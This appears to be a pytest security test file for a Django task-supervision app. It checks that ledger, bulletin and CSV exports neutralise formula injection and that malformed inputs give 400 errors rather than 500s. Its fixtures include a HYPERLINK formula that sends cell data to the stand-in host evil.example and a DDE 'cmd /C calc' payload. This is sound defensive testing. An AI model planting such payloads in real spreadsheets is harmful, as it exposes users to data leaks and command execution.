"""Attacks that the other security tests did not cover, each found against the running app.

- Formula injection: a unit's report text reaches the office's ledger download; text
  starting with `=` was written by openpyxl as a live formula, and CSV cells starting
  with = + - @ were left for Excel to run.
- Control characters in report text made the ledger download a 500 for everyone.
- Extreme `as_of` dates overflowed the dashboard's date arithmetic (500).
- Very long search texts reached SQLite as LIKE patterns it refuses (503).
- A NUL in the admin's list-filter query string reached PostgreSQL (500).
"""

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from django.test import Client
from openpyxl import load_workbook

from supervision.choices import PeriodKind
from supervision.models import AssessmentPeriod
from tasks.services import report_submit

from .conftest import make_task, make_unit, make_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B3,"点击查看详情")'


def sheet_formulas(content: bytes) -> list[str]:
    """Every formula (<f>) stored in any worksheet of an .xlsx file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            formula
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for formula in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
        ]


def cell_values(content: bytes) -> set:
    workbook = load_workbook(io.BytesIO(content), data_only=True)
    return {cell for sheet in workbook.worksheets for row in sheet.values for cell in row}


@pytest.fixture
def reported(settings, tmp_path):
    """A unit's task whose latest report text is `text` (set by the test through `report`)."""
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    unit = make_unit("区发改局")
    task = make_task(lead_units=[unit], due_on=date(2030, 6, 30))
    user = make_user(units=[unit])

    def report(text):
        task.refresh_from_db()
        report_submit(
            task=task,
            user=user,
            status="in_progress",
            progress=20,
            text=text,
            expected_version=task.version,
        )
        return task

    return report


def test_report_text_starting_with_equals_is_text_not_a_formula_in_the_ledger(
    client, reported, office_user
):
    task = reported(HYPERLINK)
    client.force_login(office_user)
    response = client.get(f"/plans/{task.plan_id}/ledger.xlsx")
    assert response.status_code == 200
    assert sheet_formulas(response.content) == []
    # the text itself is kept, so a re-imported ledger reads back what the unit wrote
    assert HYPERLINK in cell_values(response.content)


def test_control_characters_in_report_text_do_not_break_the_ledger_download(
    client, reported, office_user
):
    task = reported("已完成\x01调研\x0b报告")
    client.force_login(office_user)
    response = client.get(f"/plans/{task.plan_id}/ledger.xlsx")
    assert response.status_code == 200
    assert "已完成调研报告" in cell_values(response.content)


def test_task_csv_export_neutralises_cells_that_excel_would_run(client, office_user):
    unit = make_unit("@SUM(1+1)*cmd|' /C calc'!A0")
    task = make_task(lead_units=[unit])
    task.title, task.body = "=1+2", "-2+3 推进改革"
    task.save()
    client.force_login(office_user)
    response = client.get("/api/tasks/?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    (row,) = rows
    assert row["任务"] == "'=1+2"
    assert row["任务内容"] == "'-2+3 推进改革"
    assert row["牵头单位"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["进度(%)"] == "0"  # numbers stay numbers


def test_bulletin_and_scores_downloads_store_formula_looking_names_as_text(client, leader_user):
    unit = make_unit(HYPERLINK)
    make_task(lead_units=[unit], due_on=date(2021, 3, 31))
    AssessmentPeriod.objects.create(
        name="=2021年第一季度",
        kind=PeriodKind.QUARTER,
        starts_on=date(2021, 1, 1),
        ends_on=date(2021, 3, 31),
    )
    client.force_login(leader_user)
    for url in ("/dashboard/bulletin.xlsx?as_of=2021-05-01", "/supervision/scores.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert sheet_formulas(response.content) == [], url
        assert HYPERLINK in cell_values(response.content), url


@pytest.mark.parametrize(
    "url",
    [
        "/dashboard/?as_of={}",
        "/dashboard/bulletin/?as_of={}",
        "/dashboard/bulletin.xlsx?as_of={}",
        "/api/dashboard/?as_of={}",
        "/api/tasks/?as_of={}&due_soon=true",
        "/api/reports/?created_after={}",
    ],
)
@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_dates_at_the_ends_of_the_calendar_are_400_not_500(leader_user, url, day):
    client = Client(raise_request_exception=False)
    client.force_login(leader_user)
    make_task(lead_units=[make_unit()], due_on=date(2021, 3, 31))
    assert client.get(url.format(day)).status_code == 400


@pytest.mark.parametrize("url", ["/?q={}", "/api/tasks/?q={}", "/api/units/?q={}"])
def test_overlong_search_text_is_refused_not_a_server_error(url):
    client = Client(raise_request_exception=False)
    unit = make_unit()
    make_task(lead_units=[unit])
    client.force_login(make_user(units=[unit]))
    response = client.get(url.format("改" * 60_000))
    assert response.status_code in (200, 400)
    if url.startswith("/api/"):
        assert response.status_code == 400
        assert "q" in response.json()["errors"]


def test_nul_in_an_admin_list_filter_never_reaches_the_database(client, office_user):
    task = make_task(lead_units=[make_unit()])
    task.status = "in_progress"
    task.save()
    client.force_login(office_user)
    response = client.get("/admin/tasks/task/?status__exact=in_progress%00")
    assert response.status_code == 200
    changelist = response.context["cl"]
    assert "\x00" not in repr(changelist.params) + changelist.query
    assert list(changelist.result_list) == [task]


def test_nul_in_an_admin_autocomplete_term_is_dropped(client, office_user):
    client.force_login(office_user)
    unit = make_unit("区发改局")
    response = client.get(
        "/admin/autocomplete/",
        {"app_label": "tasks", "model_name": "taskunit", "field_name": "unit", "term": "发改\x00"},
    )
    assert response.status_code == 200
    assert [row["id"] for row in response.json()["results"]] == [str(unit.pk)]


def test_responses_for_a_signed_in_user_are_not_stored_by_the_browser(client, office_user):
    from .conftest import make_task

    task = make_task()
    client.force_login(office_user)
    for url in ("/", f"/tasks/{task.pk}/", "/api/tasks/", "/dashboard/"):
        cache_control = client.get(url)["Cache-Control"]
        assert "no-store" in cache_control and "private" in cache_control, url
